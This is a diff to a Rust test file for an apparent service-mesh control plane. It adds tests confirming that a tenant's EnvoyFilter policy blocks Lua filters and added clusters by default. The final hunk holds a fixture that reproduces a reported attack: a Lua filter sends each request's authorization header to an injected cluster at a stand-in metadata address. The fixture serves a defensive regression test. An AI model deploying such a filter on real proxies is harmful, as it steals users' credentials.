@@ -698,11 +698,16 @@ fn http_domains_cover_fqdn_short_names_and_cluster_ip() {
 
 // ---------- EnvoyFilter ----------
 
+/// The tenant's MeshControlPlane with an EnvoyFilter policy that allows every patch: the
+/// tests of patch mechanics use it; `the_envoy_filter_policy_holds_in_translation` tests the
+/// default policy.
+const ALLOW_ALL_PATCHES: &str = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {envoyFilterPolicy: {allowLua: true, allowAddedClusters: true, allowedFilterTypes: [\"*\"]}}\n";
+
 fn with_filter(patches: &str) -> String {
     let ef = format!(
         "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {{name: f, namespace: shop}}\nspec:\n  configPatches:\n{patches}"
     );
-    let index = index_with(&[BASE, &ef]);
+    let index = index_with(&[BASE, &ef, ALLOW_ALL_PATCHES]);
     describe(&index.render_proxy(&web_proxy()))
 }
 
@@ -819,8 +824,8 @@ fn envoyfilter_operations_table() {
         },
         Case {
             name: "HTTP_FILTER INSERT_BEFORE router",
-            patches: "  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.lua, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua, defaultSourceCode: {inlineString: \"function envoy_on_request(h) end\"}}}}\n",
-            present: &["hcm rds=80 http_filters=[\"envoy.filters.http.fault\", \"envoy.filters.http.cors\", \"envoy.filters.http.lua\", \"envoy.filters.http.router\"]"],
+            patches: "  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.buffer, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.buffer.v3.Buffer, maxRequestBytes: 4096}}}\n",
+            present: &["hcm rds=80 http_filters=[\"envoy.filters.http.fault\", \"envoy.filters.http.cors\", \"envoy.filters.http.buffer\", \"envoy.filters.http.router\"]"],
             absent: &[],
         },
         Case {
@@ -924,7 +929,7 @@ spec:
   - applyTo: CLUSTER
     patch: {operation: ADD, value: {name: pay-extra, type: STATIC}}
 "#;
-    let index = index_with(&[BASE, filters]);
+    let index = index_with(&[BASE, filters, ALLOW_ALL_PATCHES]);
     let timeout = |node: &ProxyNode| {
         let config = index.render_proxy(node);
         let c = decode_all::<Cluster>(&config.clusters)
@@ -973,7 +978,13 @@ fn real_envoy_accepts_rendered_configs() {
     };
     let sidecar = "apiVersion: networking.meshplane.io/v1alpha1\nkind: Sidecar\nmetadata: {name: s, namespace: pay}\nspec:\n  egress:\n  - port: {number: 18080, name: http, protocol: HTTP}\n    bind: 127.0.0.2\n    captureMode: NONE\n    hosts: [\"shop/*\"]\n  - hosts: [\"*/*\"]\n";
     let lua = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: lua, namespace: meshplane-acme}\nspec:\n  configPatches:\n  - applyTo: HTTP_FILTER\n    match: {listener: {filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.lua, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua, defaultSourceCode: {inlineString: \"function envoy_on_request(h) h:headers():add('x-mesh', 'acme') end\"}}}}\n";
-    let index = index_with(&[BASE, ENTRIES, sidecar, lua]);
+    // Lua only where the tenant's EnvoyFilter policy allows it (it does not by default).
+    let allow_lua = "apiVersion: meshplane.io/v1alpha1\nkind: MeshControlPlane\nmetadata: {name: blue}\nspec:\n  tenant: acme\n  meshConfig: {envoyFilterPolicy: {allowLua: true}}\n";
+    let index = index_with(&[BASE, ENTRIES, sidecar, lua, allow_lua]);
+    assert!(
+        describe(&index.render_proxy(&web_proxy())).contains("envoy.filters.http.lua"),
+        "the allowed Lua filter is applied"
+    );
     for (name, node) in [
         ("capture", web_proxy()),
         ("bind", proxy("shop", &[("app", "web")], CaptureMode::None)),
@@ -1095,7 +1106,7 @@ fn any_envoy_filter_type_can_be_patched_in_and_envoy_accepts_it() {
         "{text}"
     );
     let ef = format!("apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {{name: f, namespace: shop}}\nspec:\n  configPatches:\n{patches}");
-    let index = index_with(&[BASE, &ef]);
+    let index = index_with(&[BASE, &ef, ALLOW_ALL_PATCHES]);
     let (ok, log) = envoy_validates(
         &bin,
         &static_bootstrap(&index.render_proxy(&web_proxy())),
@@ -1286,4 +1297,50 @@ fn config_labelled_for_a_revision_reaches_only_that_revision_and_its_tags() {
     // Members as the Kubernetes source tells them (shop is labelled for revision blue).
     canary.apply(SourceEvent::Members(BTreeSet::from(["shop".to_string()])));
     assert_eq!(timeout(&canary), Some(4));
+}
+
+/// The attack of issue 16: a Lua filter that sends every request's credentials to a cluster the
+/// same EnvoyFilter adds (198.18.254.254 stands in for the cloud metadata address).
+const EXFILTRATION: &str = "apiVersion: networking.meshplane.io/v1alpha1\nkind: EnvoyFilter\nmetadata: {name: exfil, namespace: shop}\nspec:\n  configPatches:\n  - applyTo: CLUSTER\n    patch: {operation: ADD, value: {name: metadata, type: STATIC, connectTimeout: 1s, loadAssignment: {clusterName: metadata, endpoints: [{lbEndpoints: [{endpoint: {address: {socketAddress: {address: 198.18.254.254, portValue: 80}}}}]}]}}}\n  - applyTo: HTTP_FILTER\n    match: {listener: {portNumber: 80, filterChain: {filter: {name: envoy.filters.network.http_connection_manager, subFilter: {name: envoy.filters.http.router}}}}}\n    patch: {operation: INSERT_BEFORE, value: {name: envoy.filters.http.lua, typedConfig: {\"@type\": type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua, defaultSourceCode: {inlineString: \"function envoy_on_request(h) h:httpCall('metadata', {[':method']='GET', [':path']='/', [':authority']='m'}, h:headers():get('authorization'), 1000) end\"}}}}\n";
+
+/// The EnvoyFilter policy holds again in translation (objects admitted before the policy
+/// narrowed, while the webhook was down, or read from a directory): by default the exfiltrating
+/// filter is not applied at all; a policy that allows Lua and added clusters applies it; and a
+/// policy change alone re-renders.
+#[test]
+fn the_envoy_filter_policy_holds_in_translation() {
+    let applied = |index: &TenantIndex| {
+        let text = describe(&index.render_proxy(&web_proxy()));
+        (
+            text.contains("cluster metadata"),
+            text.contains("envoy.filters.http.lua"),
+        )
+    };
+    let mut index = index_with(&[BASE, EXFILTRATION]);
+    assert_eq!(
+        applied(&index),
+        (false, false),
+        "default policy: nothing of it applies"
+    );
+    // Only the Lua half allowed: the filter as a whole still breaks the policy (its cluster).
+    let lua_only =
+        ALLOW_ALL_PATCHES.replace("allowAddedClusters: true", "allowAddedClusters: false");
+    let change = feed(&mut index, &[BASE, EXFILTRATION, &lua_only]);
+    assert_eq!(change.kind, ChangeKind::Config);
+    assert_eq!(
+        applied(&index),
+        (false, false),
+        "one violation keeps the whole filter out"
+    );
+    let change = feed(&mut index, &[BASE, EXFILTRATION, ALLOW_ALL_PATCHES]);
+    assert_eq!(
+        change.kind,
+        ChangeKind::Config,
+        "a policy change re-renders"
+    );
+    assert_eq!(
+        applied(&index),
+        (true, true),
+        "the tenant's admin allowed it"
+    );
 }
